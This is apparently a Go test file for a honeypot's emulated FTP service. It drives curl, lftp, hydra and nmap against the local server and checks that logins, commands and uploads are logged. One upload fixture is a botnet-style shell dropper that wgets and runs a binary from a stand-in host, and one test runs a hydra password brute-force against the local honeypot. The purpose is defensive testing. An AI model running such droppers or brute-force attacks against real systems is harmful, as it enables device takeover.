package ftp

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

// Real clients against the service on 127.0.0.1, each bounded in time.

func need(t *testing.T, bin, pkg string) string {
	t.Helper()
	p, err := exec.LookPath(bin)
	if err != nil {
		t.Skipf("%s is not installed (Debian package %s)", bin, pkg)
	}
	return p
}

// run runs a client with a deadline, in a scratch directory and HOME.
func run(t *testing.T, timeout time.Duration, bin string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	dir := t.TempDir()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+dir, "LC_ALL=C")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func scratch(t *testing.T, name string, data []byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// checkUpload finds the upload of name and checks its sample.
func checkUpload(t *testing.T, h *servicetest.Harness, evs []*event.Event, name string, data []byte) {
	t.Helper()
	for _, u := range uploads(evs) {
		if u.Name != name {
			continue
		}
		if u.SHA256 != sum(data) || u.Size != int64(len(data)) || u.Truncated {
			t.Errorf("upload %s: %+v, want %d bytes with SHA-256 %s", name, *u, len(data), sum(data))
		}
		if got, ok := h.Samples.Get(u.SHA256); !ok || !bytes.Equal(got, data) {
			t.Errorf("upload %s: the sample store does not hold its bytes", name)
		}
		return
	}
	t.Errorf("no upload named %q among %d uploads", name, len(uploads(evs)))
}

func hasCommand(evs []*event.Event, prefix string) bool {
	for _, c := range commands(evs) {
		if strings.HasPrefix(c.Line, prefix) {
			return true
		}
	}
	return false
}

// curl lists and uploads in passive mode against IIS: it tries EPSV,
// which IIS 5.0 does not know, and falls back to PASV.
func TestCurlIIS(t *testing.T) {
	bin := need(t, "curl", "curl")
	h := servicetest.Start(t, "ftp", newServer(t, service.ProfileWindows2000, nil), nil)
	base := fmt.Sprintf("ftp://127.0.0.1:%d", h.Addr.Port())
	out, err := run(t, 30*time.Second, bin, "-sS", "--max-time", "20", "--user", "anonymous:curl@example.com", base+"/pub/")
	if err != nil {
		t.Fatalf("curl list: %v\n%s", err, out)
	}
	// curl turns the listing's CRLF into LF, as an ASCII transfer.
	want := "07-02-01  04:05PM                 1543 readme.txt\n07-02-01  04:03PM                94208 update.exe\n"
	if out != want {
		t.Errorf("curl listing:\n%q\nwant\n%q", out, want)
	}
	data := bytes.Repeat([]byte("curl upload \x00\x01\x02"), 3000)
	file := scratch(t, "payload.bin", data)
	out, err = run(t, 30*time.Second, bin, "-sS", "--max-time", "20", "--user", "anonymous:curl@example.com", "-T", file, base+"/incoming/")
	if err != nil {
		t.Fatalf("curl upload: %v\n%s", err, out)
	}
	evs := h.WaitClosed(t, 2)
	checkUpload(t, h, evs, "payload.bin", data)
	for _, l := range logins(evs) {
		if l.User != "anonymous" || l.Password != "curl@example.com" || !l.Success {
			t.Errorf("login %+v", *l)
		}
	}
	if n := len(logins(evs)); n != 2 {
		t.Errorf("got %d logins, want 2", n)
	}
	for _, p := range []string{"EPSV", "PASV", "LIST", "TYPE I", "STOR payload.bin", "CWD incoming"} {
		if !hasCommand(evs, p) {
			t.Errorf("no command event %q", p)
		}
	}
	for _, c := range commands(evs) {
		if c.Line == "EPSV" && (c.Known || c.Output != "500 'EPSV': command not understood\r\n") {
			t.Errorf("EPSV event %+v", c)
		}
	}
}

// curl against BusyBox ftpd uses EPSV, which BusyBox answers.
func TestCurlBusyBox(t *testing.T) {
	bin := need(t, "curl", "curl")
	h := servicetest.Start(t, "ftp", newServer(t, service.ProfileLinuxIoT, nil), nil)
	base := fmt.Sprintf("ftp://127.0.0.1:%d", h.Addr.Port())
	data := []byte("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod 777 x.arm7; ./x.arm7\n")
	file := scratch(t, "x.sh", data)
	// Upload, then list on the same connection: the upload shows.
	out, err := run(t, 30*time.Second, bin, "-sS", "--max-time", "20", "--user", "admin:admin", "-T", file, base+"/tmp/",
		"--next", "-sS", "--max-time", "20", "--user", "admin:admin", base+"/tmp/")
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	if want := fmt.Sprintf("-rw-r--r--    1 root     root     %9d Sep 18 13:45 x.sh\n", len(data)); out != want {
		t.Errorf("listing %q, want %q", out, want)
	}
	evs := h.WaitClosed(t, 1)
	if n := len(servicetest.OfKind(evs, event.KindConnect)); n != 1 {
		t.Errorf("curl made %d connections, want 1", n)
	}
	checkUpload(t, h, evs, "x.sh", data)
	if !hasCommand(evs, "EPSV") {
		t.Error("curl did not use EPSV")
	}
}

// lftp: listing, upload and download in passive mode, then an upload in
// active mode (PORT back to lftp itself).
func TestLftp(t *testing.T) {
	bin := need(t, "lftp", "lftp")
	h := servicetest.Start(t, "ftp", newServer(t, service.ProfileWindows2000, nil), nil)
	url := fmt.Sprintf("ftp://127.0.0.1:%d", h.Addr.Port())
	dir := t.TempDir()
	data := bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 20000)
	src := scratch(t, "tool.exe", data)
	back := filepath.Join(dir, "readme.txt")
	settings := "set net:max-retries 1; set net:timeout 10; set net:reconnect-interval-base 1; set cmd:fail-exit true; "
	script := settings + "set ftp:passive-mode true; open -u anonymous,lftp@example.com " + url +
		"; cls -l pub; put " + src + " -o incoming/tool.exe; get pub/readme.txt -o " + back + "; bye"
	out, err := run(t, 60*time.Second, bin, "-c", script)
	if err != nil {
		t.Fatalf("lftp: %v\n%s", err, out)
	}
	if !strings.Contains(out, "readme.txt") || !strings.Contains(out, "update.exe") {
		t.Errorf("lftp listing:\n%s", out)
	}
	got, err := os.ReadFile(back)
	if err != nil || len(got) != 1543 {
		t.Errorf("lftp get readme.txt: %d bytes, %v; want 1543", len(got), err)
	}
	active := settings + "set ftp:passive-mode false; open -u anonymous,lftp@example.com " + url +
		"; put " + src + " -o incoming/active.exe; bye"
	if out, err := run(t, 60*time.Second, bin, "-c", active); err != nil {
		t.Fatalf("lftp active: %v\n%s", err, out)
	}
	evs := h.WaitClosed(t, 2)
	checkUpload(t, h, evs, "incoming/tool.exe", data)
	checkUpload(t, h, evs, "incoming/active.exe", data)
	if !hasCommand(evs, "PORT 127,0,0,1,") {
		t.Error("lftp's active session sent no PORT")
	}
	if !hasCommand(evs, "PASV") {
		t.Error("lftp's passive session sent no PASV")
	}
}

var hydraAttempt = regexp.MustCompile(`(?m)^\[(?:RE-)?ATTEMPT\] target 127\.0\.0\.1 - login "([^"]*)" - pass "([^"]*)"`)

// hydra: every attempt it makes is stored as a login event, none lost,
// and the service still answers afterwards.
//
// hydra 9.4 ends its attack as soon as a worker asks for a guess and
// none is left, killing workers still in the middle of one ("Writing
// restore file because N final worker threads did not complete"), so
// the last guesses may never reach the server: up to N of the attempts
// hydra reports may have no login event.
func TestHydra(t *testing.T) {
	const tasks = 4
	bin := need(t, "hydra", "hydra")
	h := servicetest.Start(t, "ftp", newServer(t, service.ProfileWindows2000, func(c *Config) {
		c.Anonymous = false
		c.Accept = []Credential{{User: "backup", Password: "backup2001"}}
	}), nil)
	dir := t.TempDir()
	users := filepath.Join(dir, "users")
	passes := filepath.Join(dir, "passes")
	// The user with the accepted password goes first, so the pair is in
	// hydra's first round of guesses, not among the last ones, which
	// hydra may cut off.
	_ = os.WriteFile(users, []byte("backup\nadmin\nroot\n"), 0o644)
	_ = os.WriteFile(passes, []byte("123456\npassword\nbackup2001\ntoor\nletmein\nqwerty\n"), 0o644)
	out, err := run(t, 120*time.Second, bin, "-L", users, "-P", passes, "-s", strconv.Itoa(int(h.Addr.Port())),
		"-t", strconv.Itoa(tasks), "-I", "-V", "-w", "10", "127.0.0.1", "ftp")
	// When hydra cuts guesses off it exits with status 255 ("1 target did
	// not resolve or could not be connected"), whatever it found: the
	// events decide.
	if err != nil && !regexp.MustCompile(`final worker threads? did not complete`).MatchString(out) {
		t.Fatalf("hydra: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`login:\s+backup\s+password:\s+backup2001`).MatchString(out) {
		t.Errorf("hydra did not find backup/backup2001:\n%s", out)
	}
	tried := map[[2]string]bool{}
	for _, m := range hydraAttempt.FindAllStringSubmatch(out, -1) {
		tried[[2]string{m[1], m[2]}] = true
	}
	if len(tried) < 12 {
		t.Fatalf("hydra reported %d attempts:\n%s", len(tried), out)
	}
	cutOff := 0
	if m := regexp.MustCompile(`because (\d+) final worker threads? did not complete`).FindStringSubmatch(out); m != nil {
		cutOff, _ = strconv.Atoi(m[1])
	}
	// The worker that found nothing left to do is not one of them.
	if cutOff > tasks-1 {
		t.Fatalf("hydra says it cut off %d guesses; with %d workers it cannot cut off more than %d:\n%s", cutOff, tasks, tasks-1, out)
	}
	// Every session hydra opened has ended.
	var evs []*event.Event
	evs = h.Events.Wait(t, 20*time.Second, func(evs []*event.Event) bool {
		return len(servicetest.OfKind(evs, event.KindClose)) == len(servicetest.OfKind(evs, event.KindConnect))
	})
	seen := map[[2]string]bool{}
	hits := 0
	for _, l := range logins(evs) {
		pair := [2]string{l.User, l.Password}
		seen[pair] = true
		if l.Success {
			hits++
		}
		if l.Success != (pair == [2]string{"backup", "backup2001"}) {
			t.Errorf("login %+v has the wrong outcome", *l)
		}
	}
	if hits == 0 {
		t.Error("the accepted attempt backup/backup2001 was not recorded as a success")
	}
	missing := 0
	for pair := range tried {
		if !seen[pair] {
			if missing++; missing > cutOff {
				t.Errorf("hydra tried %q/%q but no login event has it (hydra cut off %d)", pair[0], pair[1], cutOff)
			}
		}
	}
	for pair := range seen {
		if !tried[pair] {
			t.Errorf("login event %q/%q that hydra did not report", pair[0], pair[1])
		}
	}
	cl := dial(t, h)
	cl.expect("USER backup", "331 ")
	cl.expect("PASS backup2001", "230 User backup logged in.")
	cl.expect("QUIT", "221")
}

// nmap -sV names the personas. It relies on these lines of
// nmap-service-probes (7.93), matched on the NULL probe's banner:
//
//	match ftp m|^220.*Microsoft FTP Service \(Version (\d[^)]+)| p/Microsoft ftpd/ v/$1/ o/Windows/
//	match ftp m|^220 Operation successful\r\n$| p/BusyBox ftpd/ ...
func TestNmapNamesIIS(t *testing.T) {
	out := runNmap(t, service.ProfileWindows2000)
	if !strings.Contains(out, "Microsoft ftpd 5.0") {
		t.Fatalf("nmap did not name Microsoft ftpd 5.0:\n%s", out)
	}
}

func TestNmapNamesBusyBox(t *testing.T) {
	out := runNmap(t, service.ProfileLinuxIoT)
	if !strings.Contains(out, "BusyBox ftpd") {
		t.Fatalf("nmap did not name BusyBox ftpd:\n%s", out)
	}
}

func runNmap(t *testing.T, profile string) string {
	t.Helper()
	h := servicetest.Start(t, "ftp", newServer(t, profile, nil), nil)
	return servicetest.Nmap(t, h.Addr.Port(), 120*time.Second)
}
